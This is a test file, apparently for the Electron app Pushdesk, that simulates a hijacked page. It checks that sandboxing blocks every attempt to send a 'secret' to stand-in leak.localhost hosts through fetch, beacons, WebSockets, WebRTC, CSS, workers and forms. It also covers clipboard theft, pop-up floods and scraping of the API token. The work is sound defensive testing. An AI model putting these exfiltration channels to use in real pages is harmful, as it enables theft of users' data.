import { readFileSync } from 'node:fs';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { goTo } from './support/person.ts';
import { openListeningPost, type ListeningPost } from './support/listening-post.ts';
import { recordOutside, type Outside } from './support/opened-links.ts';
import { ROOT, launchPushdesk, makeTempFolder, type Pushdesk } from './support/pushdesk.ts';

/** Each test is a script that has taken the page over and tries to carry something out, or to bother the person. */
const temp = makeTempFolder();
const netLog = path.join(temp.folder, 'net.json');
/** Names that lead here, and are looked up like any other; no other name leads anywhere. */
const NAMES =
  '--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE localhost, EXCLUDE *.leak.localhost, EXCLUDE 127.0.0.1';
let post: ListeningPost;
let pushdesk: Pushdesk;
let outside: () => Promise<Outside>;

beforeAll(async () => {
  post = await openListeningPost();
  pushdesk = await launchPushdesk({
    dataDir: path.join(temp.folder, 'data'),
    // Every name that is asked for is in the log, even one that is only looked up.
    args: [`--log-net-log=${netLog}`, NAMES, ROOT],
  });
  await pushdesk.ready();
  outside = await recordOutside(pushdesk.app);
});
/** What one script has left in the page must not affect the next one. */
afterEach(async () => {
  await pushdesk.window.reload();
  await pushdesk.window.getByRole('heading', { level: 1 }).first().waitFor();
});
afterAll(async () => {
  await pushdesk.quit();
  post.close();
  temp.remove();
});

/** This machine, by an address that WebRTC does not leave out, if it has one. */
const ownAddress =
  Object.values(networkInterfaces())
    .flatMap((found) => found ?? [])
    .find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '127.0.0.1';

/** Tries every way to reach a server that a page has. The name in each address says which way it was. */
async function tryEveryRequest(page: Page, tcpPort: number): Promise<void> {
  await page.evaluate(async (port) => {
    const url = (way: string) => `http://${way}.leak.localhost:${port}/?secret=1`;
    const attempt = (act: () => unknown) => {
      try {
        void Promise.resolve(act()).catch(() => undefined);
      } catch {
        // Refused at once.
      }
    };
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const rels = [
      'dns-prefetch',
      'preconnect',
      'prefetch',
      'prerender',
      'modulepreload',
      'stylesheet',
      'icon',
      'manifest',
    ];
    for (const rel of rels) add('link', { rel, href: url(rel) });
    add('link', { rel: 'preload', as: 'image', href: url('preload') });
    add('img', { src: url('img') });
    add('img', { srcset: `${url('srcset')} 2x` });
    add('div', { style: `background: url("${url('background')}")` });
    add('style', {}).textContent =
      `@import url("${url('import')}"); @font-face { font-family: x; src: url("${url('font')}") } body { font-family: x }`;
    add('script', { src: url('script') });
    add('video', { src: url('video'), poster: url('poster') });
    add('audio', { src: url('audio') });
    add('object', { data: url('object') });
    add('embed', { src: url('embed') });
    add('iframe', { src: url('iframe') });
    add('iframe', { srcdoc: `<img src="${url('srcdoc')}">` });
    attempt(() => fetch(url('fetch'), { mode: 'no-cors' }));
    attempt(() => navigator.sendBeacon(url('beacon'), 'secret'));
    attempt(() => new WebSocket(url('websocket').replace('http:', 'ws:')));
    attempt(() => new EventSource(url('eventsource')));
    attempt(() => new Worker(url('worker')));
    attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${url('blob-worker')}")`]))));
    attempt(() => navigator.serviceWorker.register('/sw.js'));
    attempt(() => {
      const request = new XMLHttpRequest();
      request.open('GET', url('xhr'));
      request.send();
    });
    attempt(() => {
      const empty = add('iframe', {}) as HTMLIFrameElement;
      return (empty.contentWindow as unknown as typeof globalThis).fetch(url('empty-frame'));
    });
    attempt(() => {
      const form = add('form', { action: url('form'), method: 'post' }) as HTMLFormElement;
      form.submit();
    });
    await new Promise((resolve) => setTimeout(resolve, 500));
  }, tcpPort);
}

describe('a page that was taken over', () => {
  it('makes no sound, and asks in vain for the clipboard, before anybody pressed anything', async () => {
    // Playwright says that a person pressed something wherever it runs a script, and a page does not forget it: so this comes first.
    const seen = await pushdesk.app.evaluate(
      ({ BrowserWindow }, code) =>
        BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(code) as Promise<unknown>,
      `(async () => {
        const audio = new AudioContext();
        const written = await navigator.clipboard.writeText('secret').then(() => true, () => false);
        await new Promise((resolve) => setTimeout(resolve, 300));
        return { sound: audio.state, written, pressed: navigator.userActivation.hasBeenActive };
      })()`,
    );
    expect(seen).toEqual({ sound: 'suspended', written: false, pressed: false });
  });

  it('reaches no server by any request, and has no name looked up', async () => {
    const before = post.reached().tcp;
    await tryEveryRequest(pushdesk.window, post.tcpPort);
    expect(post.reached().tcp).toBe(before);
    // The same from a window without any guard is seen at the post and is in the log: so the test would notice it.
    await pushdesk.app.evaluate(async ({ BrowserWindow, session }, port) => {
      const unguarded = session.fromPartition('unguarded');
      const window = new BrowserWindow({
        show: false,
        webPreferences: { session: unguarded, sandbox: true },
      });
      await window.loadURL('data:text/html,x');
      await window.webContents.executeJavaScript(
        `fetch("http://control.leak.localhost:${port}/", { mode: "no-cors" }).catch(() => undefined)`,
      );
      window.destroy();
    }, post.tcpPort);
    await expect.poll(() => post.reached().tcp).toBeGreaterThan(before);
    await expect.poll(() => readFileSync(netLog, 'utf8')).toContain('control.leak.localhost');
    const ways = readFileSync(netLog, 'utf8').match(/[a-z-]+(?=\.leak\.localhost)/g) ?? [];
    expect([...new Set(ways)]).toEqual(['control']);
  });

  it('reaches nobody by WebRTC, neither by UDP nor by TCP', async () => {
    const call = (servers: string) => `(async () => {
      const peer = new RTCPeerConnection({ iceServers: ${servers} });
      peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      await Promise.race([
        new Promise((resolve) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(); }),
        new Promise((resolve) => setTimeout(resolve, 5000)),
      ]);
    })()`;
    const servers = JSON.stringify([
      { urls: `stun:${ownAddress}:${post.udpPort}` },
      // No name but those leads anywhere, and to Chromium an address is a name too.
      { urls: `turn:127.0.0.1:${post.tcpPort}?transport=tcp`, username: 'secret', credential: 'x' },
    ]);
    const before = post.reached();
    await pushdesk.window.evaluate(call(servers));
    expect(post.reached()).toEqual(before);
    await pushdesk.app.evaluate(async ({ BrowserWindow, session }, script) => {
      const window = new BrowserWindow({
        show: false,
        webPreferences: { session: session.fromPartition('unguarded'), sandbox: true },
      });
      window.webContents.setWebRTCIPHandlingPolicy('default');
      await window.loadURL('data:text/html,x');
      await window.webContents.executeJavaScript(script);
    }, call(servers));
    await expect.poll(() => post.reached().udp).toBeGreaterThan(before.udp);
    await expect.poll(() => post.reached().tcp).toBeGreaterThan(before.tcp);
  });

  it('opens nothing in the browser that nobody pressed, however often it tries', async () => {
    await pushdesk.window.evaluate(() => {
      for (let turn = 0; turn < 200; turn += 1) window.open(`https://leak.example/?${turn}`);
      location.href = 'https://leak.example/navigated';
    });
    await pushdesk.window.evaluate(() => new Promise(requestAnimationFrame));
    expect(await outside()).toEqual({ opened: [], asked: [] });
  });

  it('opens one address for a press, and the person sees it first', async () => {
    await goTo(pushdesk.window, 'Overview');
    await pushdesk.window.evaluate(() => {
      addEventListener(
        'keydown',
        () => {
          for (let turn = 0; turn < 5; turn += 1) window.open(`https://leak.example/?${turn}`);
        },
        { once: true },
      );
    });
    await pushdesk.window.keyboard.press('F9');
    await expect.poll(async () => (await outside()).opened).toEqual(['https://leak.example/?0']);
    expect((await outside()).asked).toEqual(['https://leak.example/?0']);
  });

  it('downloads, prints, warns and holds nothing', async () => {
    const seen = await pushdesk.window.evaluate(async () => {
      for (const href of ['data:text/plain,x', URL.createObjectURL(new Blob(['x']))]) {
        const link = document.createElement('a');
        link.download = 'leak.txt';
        link.href = href;
        link.click();
      }
      // Each of these would wait for a person.
      alert('caught');
      print();
      const answers = [confirm('caught')];
      // What asks a person, or waits for something that never comes, is not granted.
      const outcome = (act: () => Promise<unknown>) =>
        Promise.race([
          new Promise((resolve) => setTimeout(resolve, 1500, 'not granted')),
          Promise.resolve()
            .then(act)
            .then(
              () => 'granted',
              () => 'not granted',
            ),
        ]);
      const isLocked = () => document.pointerLockElement !== null;
      void document.body.requestPointerLock();
      return {
        answers,
        fullscreen: await outcome(() => document.documentElement.requestFullscreen()),
        clipboard: await outcome(() => navigator.clipboard.readText()),
        files: await outcome(() =>
          (window as unknown as { showOpenFilePicker: () => Promise<unknown> }).showOpenFilePicker(),
        ),
        screen: await outcome(() => navigator.mediaDevices.getDisplayMedia()),
        isLocked: isLocked(),
        worker: await outcome(() => navigator.serviceWorker.register('/index.html')),
        fonts: await outcome(() =>
          (window as unknown as { queryLocalFonts: () => Promise<unknown> }).queryLocalFonts(),
        ),
      };
    });
    expect(seen).toEqual({
      answers: [false],
      fullscreen: 'not granted',
      clipboard: 'not granted',
      files: 'not granted',
      screen: 'not granted',
      isLocked: false,
      worker: 'not granted',
      fonts: 'not granted',
    });
    const started = await pushdesk.app.evaluate(({ session, BrowserWindow }) => {
      let count = 0;
      session.defaultSession.on('will-download', (event) => {
        if (!event.defaultPrevented) count += 1;
      });
      BrowserWindow.getAllWindows()[0]?.webContents.downloadURL('data:text/plain,x');
      return new Promise<number>((resolve) => {
        setTimeout(() => {
          resolve(count);
        }, 300);
      });
    });
    expect(started).toBe(0);
  });

  it('neither moves its window nor opens the tools of developers', async () => {
    const bounds = () =>
      pushdesk.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getBounds());
    const before = await bounds();
    await pushdesk.window.evaluate(() => {
      window.moveTo(3, 4);
      window.resizeTo(700, 500);
    });
    await pushdesk.window.evaluate(() => new Promise(requestAnimationFrame));
    expect(await bounds()).toEqual(before);
  });

  it('gets no API token: the system shows it, after a press, and the page does not', async () => {
    const token = readFileSync(path.join(temp.folder, 'data', 'api-token'), 'utf8').trim();
    await goTo(pushdesk.window, 'Server');
    await pushdesk.window.getByRole('button', { name: 'Show API token' }).click();
    await expect.poll(async () => (await outside()).asked.at(-1) ?? '').toContain(token);
    expect(await pushdesk.window.content()).not.toContain(token);
    // Nobody has pressed anything since: a script that presses the button gets a refusal.
    await pushdesk.window.evaluate(() => {
      for (const button of document.querySelectorAll('button'))
        if (button.textContent === 'Show API token') button.click();
    });
    await pushdesk.window
      .getByText('The API token is shown and copied only right after you press a button.')
      .waitFor();
    expect((await outside()).asked.filter((text) => text.includes(token))).toHaveLength(1);
    await pushdesk.window.getByRole('button', { name: 'Copy API token' }).click();
    await expect.poll(() => pushdesk.app.evaluate(({ clipboard }) => clipboard.readText())).toBe(token);
  });

  it('opens one dialog to save for a press, and none without', async () => {
    // A press is fresh for some seconds, and there is much to do here before it is used: no time passes meanwhile.
    await pushdesk.app.evaluate(() => {
      const held = performance.now();
      performance.now = () => held;
    });
    await pushdesk.app.evaluate(({ dialog }) => {
      const saves: string[] = [];
      Object.assign(globalThis, { askedToSave: saves });
      // It stays open until the test ends.
      dialog.showSaveDialog = (...args: unknown[]) => {
        saves.push((args.at(-1) as Electron.SaveDialogOptions).title ?? '');
        return new Promise((resolve) => {
          Object.assign(globalThis, {
            answerSave: () => {
              resolve({ canceled: true, filePath: '' });
            },
          });
        });
      };
    });
    const asked = () =>
      pushdesk.app.evaluate(() => (globalThis as unknown as { askedToSave: string[] }).askedToSave.length);
    const { window } = pushdesk;
    await goTo(window, 'Keys');
    await window.getByRole('button', { name: 'Generate keys' }).first().click();
    const dialog = window.getByRole('dialog', { name: 'Generate keys' });
    await dialog.getByRole('textbox', { name: 'Contact' }).fill('mailto:you@example.com');
    await dialog.getByRole('button', { name: 'Generate keys' }).click();
    const copy = window.getByRole('dialog', { name: 'Save a copy' });
    await copy.getByRole('button', { name: 'Not now' }).click();
    await copy.waitFor({ state: 'detached' });
    await window.getByRole('grid', { name: 'Key pairs' }).getByRole('row').nth(1).click();
    await window.getByRole('button', { name: 'Export', exact: true }).waitFor();
    // While it loads, it does nothing: what was asked for last has no answer yet.
    const isAnswered = () => window.locator('button:not([data-loading])', { hasText: /^Export$/ }).waitFor();
    // Past what keeps a person from it: what is behind the button, twenty times at once.
    const exportOften = async () => {
      await isAnswered();
      await window.evaluate(async () => {
        const propsOf = (element: Element | undefined) =>
          Object.entries(element ?? {}).find(([name]) => name.startsWith('__reactProps'))?.[1] as {
            onClick: (event: object) => void;
          };
        const button = [...document.querySelectorAll('button')].find(
          ({ textContent }) => textContent === 'Export',
        );
        propsOf(button).onClick({});
        const item = await new Promise<Element>((resolve) => {
          const look = () => {
            const found = document.querySelector('[role="menuitem"]');
            if (found === null) requestAnimationFrame(look);
            else resolve(found);
          };
          look();
        });
        for (let turn = 0; turn < 20; turn += 1) propsOf(item).onClick({});
      });
    };
    const answer = async () => {
      await pushdesk.app.evaluate(() => {
        (globalThis as unknown as { answerSave: () => void }).answerSave();
      });
      await isAnswered();
    };
    // This is asked for after them, by a script alone, so it is answered after them.
    const tokenRefused = async () => {
      await window.getByRole('link', { name: 'Server' }).dispatchEvent('click');
      await window.getByRole('button', { name: 'Show API token' }).dispatchEvent('click');
      await window
        .getByText('The API token is shown and copied only right after you press a button.')
        .waitFor();
    };
    const reopenKeyPair = async () => {
      await window.getByRole('link', { name: 'Keys' }).dispatchEvent('click');
      await window.getByRole('grid', { name: 'Key pairs' }).getByRole('row').nth(1).dispatchEvent('click');
      await window.getByRole('button', { name: 'Export', exact: true }).waitFor();
    };
    // The press that opened the row is still fresh: it lets one through.
    await exportOften();
    await expect.poll(asked).toBe(1);
    // Nor does a second one open on top of it, whatever is pressed meanwhile.
    await window.keyboard.press('F9');
    await exportOften();
    await tokenRefused();
    await reopenKeyPair();
    await answer();
    expect(await asked()).toBe(1);
    // That press is still there. After it is used up, nothing opens.
    await exportOften();
    await expect.poll(asked).toBe(2);
    await answer();
    await exportOften();
    await tokenRefused();
    expect(await asked()).toBe(2);
  });

  it('cannot hold its window open', async () => {
    await pushdesk.window.evaluate(() => {
      addEventListener('beforeunload', (event) => {
        event.preventDefault();
      });
    });
    await pushdesk.window.mouse.click(2, 2);
    await pushdesk.window.reload();
    await expect
      .poll(() => pushdesk.window.getByRole('heading', { level: 1 }).first().isVisible())
      .toBe(true);
  });
});
